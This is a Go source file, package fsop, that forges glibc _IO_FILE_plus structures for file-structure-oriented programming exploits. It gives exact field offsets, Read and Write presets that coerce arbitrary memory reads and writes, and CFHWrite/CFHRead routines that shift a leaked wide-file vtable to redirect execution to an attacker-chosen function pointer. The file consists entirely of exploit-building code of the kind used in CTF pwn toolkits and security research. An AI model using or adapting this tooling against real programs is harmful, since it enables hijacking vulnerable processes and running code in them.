// Package fsop forges glibc _IO_FILE_plus structures for file-structure-
// oriented-programming (FSOP) and chained-file-hijack (CFH) exploitation.
package fsop

import "encoding/binary"

// Layout constants for glibc's _IO_FILE_plus. Named so that targeting a
// different glibc build requires only retargeting these values -- see
// SPEC_FULL.md's design notes.
const (
	// Size is the byte length of the serialized struct, matching
	// sizeof(_IO_FILE_plus) on glibc's x86-64 layout.
	Size = 224

	// PrefixLen is the byte offset of _flags2 -- Read and Write return only
	// this much of the struct, matching what those presets touch.
	PrefixLen = 116

	// WideDataVtableOffset is the offset of the vtable pointer within
	// struct _IO_wide_data.
	WideDataVtableOffset = 0xe0

	// ReadEndOffset is the vtable slot offset used for the CFH target
	// pointer: cfhCommon aims _IO_read_end ReadEndOffset bytes before the
	// _IO_read_base field, so that slot reads the target stored there.
	ReadEndOffset = 0x68

	// CFHWriteVtableShift shifts a leaked _IO_wide_data vtable so that
	// __xputn dispatches to __overflow instead, for the write-hijack path.
	CFHWriteVtableShift = 0x20

	// CFHReadVtableShift is CFHWriteVtableShift's counterpart for the
	// read-hijack path.
	CFHReadVtableShift = 0x28
)

const (
	offFlags        = 0
	offIOReadPtr    = 8
	offIOReadEnd    = 16
	offIOReadBase   = 24
	offIOWriteBase  = 32
	offIOWritePtr   = 40
	offIOWriteEnd   = 48
	offIOBufBase    = 56
	offIOBufEnd     = 64
	offIOSaveBase   = 72
	offIOBackupBase = 80
	offIOSaveEnd    = 88
	offMarkers      = 96
	offChain        = 104
	offFileno       = 112
	offFlags2       = 116
	offOldOffset    = 120
	offCurColumn    = 128
	offVtableOffset = 130
	offShortbuf     = 131
	offLock         = 136
	offOffset       = 144
	offCodecvt      = 152
	offWideData     = 160
	offFreeresList  = 168
	offFreeresBuf   = 176
	offPad5         = 184
	offMode         = 192
	// offUnused2 is also the offset used to land _lock on a pointer to
	// guaranteed-null bytes within the same forged struct -- see CFHWrite.
	offUnused2  = 196
	unused2Len  = 20
	offVtable   = 216
)

// FileStruct is a byte-exact image of glibc's _IO_FILE_plus, built field by
// field and serialized on demand rather than relied upon for Go's own
// memory layout.
type FileStruct struct {
	Flags int32

	IOReadPtr    uint64
	IOReadEnd    uint64
	IOReadBase   uint64
	IOWriteBase  uint64
	IOWritePtr   uint64
	IOWriteEnd   uint64
	IOBufBase    uint64
	IOBufEnd     uint64
	IOSaveBase   uint64
	IOBackupBase uint64
	IOSaveEnd    uint64
	Markers      uint64
	Chain        uint64
	Fileno       int32
	Flags2       int32
	OldOffset    uint64
	CurColumn    uint16
	VtableOffset int8
	Shortbuf     uint8

	Lock         uint64
	Offset       uint64
	Codecvt      uint64
	WideData     uint64
	FreeresList  uint64
	FreeresBuf   uint64
	Mode         int32
	Unused2      [unused2Len]byte

	Vtable uint64
}

// Bytes serializes f to its full Size-byte layout.
func (f *FileStruct) Bytes() []byte {
	b := make([]byte, Size)
	le := binary.LittleEndian

	le.PutUint32(b[offFlags:], uint32(f.Flags))
	le.PutUint64(b[offIOReadPtr:], f.IOReadPtr)
	le.PutUint64(b[offIOReadEnd:], f.IOReadEnd)
	le.PutUint64(b[offIOReadBase:], f.IOReadBase)
	le.PutUint64(b[offIOWriteBase:], f.IOWriteBase)
	le.PutUint64(b[offIOWritePtr:], f.IOWritePtr)
	le.PutUint64(b[offIOWriteEnd:], f.IOWriteEnd)
	le.PutUint64(b[offIOBufBase:], f.IOBufBase)
	le.PutUint64(b[offIOBufEnd:], f.IOBufEnd)
	le.PutUint64(b[offIOSaveBase:], f.IOSaveBase)
	le.PutUint64(b[offIOBackupBase:], f.IOBackupBase)
	le.PutUint64(b[offIOSaveEnd:], f.IOSaveEnd)
	le.PutUint64(b[offMarkers:], f.Markers)
	le.PutUint64(b[offChain:], f.Chain)
	le.PutUint32(b[offFileno:], uint32(f.Fileno))
	le.PutUint32(b[offFlags2:], uint32(f.Flags2))
	le.PutUint64(b[offOldOffset:], f.OldOffset)
	le.PutUint16(b[offCurColumn:], f.CurColumn)
	b[offVtableOffset] = byte(f.VtableOffset)
	b[offShortbuf] = f.Shortbuf
	le.PutUint64(b[offLock:], f.Lock)
	le.PutUint64(b[offOffset:], f.Offset)
	le.PutUint64(b[offCodecvt:], f.Codecvt)
	le.PutUint64(b[offWideData:], f.WideData)
	le.PutUint64(b[offFreeresList:], f.FreeresList)
	le.PutUint64(b[offFreeresBuf:], f.FreeresBuf)
	le.PutUint32(b[offMode:], uint32(f.Mode))
	copy(b[offUnused2:offUnused2+unused2Len], f.Unused2[:])
	le.PutUint64(b[offVtable:], f.Vtable)

	return b
}

// Read configures f as a forged FILE usable to coerce a read from [addr,
// addr+size) and returns the prefix up to _flags2.
func (f *FileStruct) Read(addr, size uint64) []byte {
	f.Flags &^= 4
	f.IOReadBase = 0
	f.IOReadPtr = 0
	f.IOBufBase = addr
	f.IOBufEnd = addr + size
	f.Fileno = 0
	return f.Bytes()[:PrefixLen]
}

// Write configures f as a forged FILE usable to coerce a write of size
// bytes starting at addr and returns the prefix up to _flags2.
func (f *FileStruct) Write(addr, size uint64) []byte {
	f.Flags &^= 8
	f.Flags |= 0x800
	f.IOWriteBase = addr
	f.IOWritePtr = addr + size
	f.IOReadEnd = addr
	f.Fileno = 1
	return f.Bytes()[:PrefixLen]
}

// cfhCommon applies the field setup shared by CFHWrite and CFHRead: fpStart
// is the address this struct will be placed at, target the function pointer
// to redirect into. The callers set Vtable from the leaked wfileJumps.
func (f *FileStruct) cfhCommon(fpStart, target uint64) {
	f.Flags = 0
	f.Lock = fpStart + offUnused2
	f.WideData = fpStart - WideDataVtableOffset + 0x10
	f.IOReadEnd = fpStart - ReadEndOffset + 0x18
	f.IOReadBase = target
}

// CFHWrite forges a chained-file-hijack structure that redirects a write
// path (__xputn) into __overflow at the leaked vtable, then on into target.
func (f *FileStruct) CFHWrite(fpStart, wfileJumps, target uint64) []byte {
	f.cfhCommon(fpStart, target)
	f.Vtable = wfileJumps - CFHWriteVtableShift
	return f.Bytes()
}

// CFHRead is CFHWrite's read-path counterpart.
func (f *FileStruct) CFHRead(fpStart, wfileJumps, target uint64) []byte {
	f.cfhCommon(fpStart, target)
	f.Vtable = wfileJumps - CFHReadVtableShift
	return f.Bytes()
}
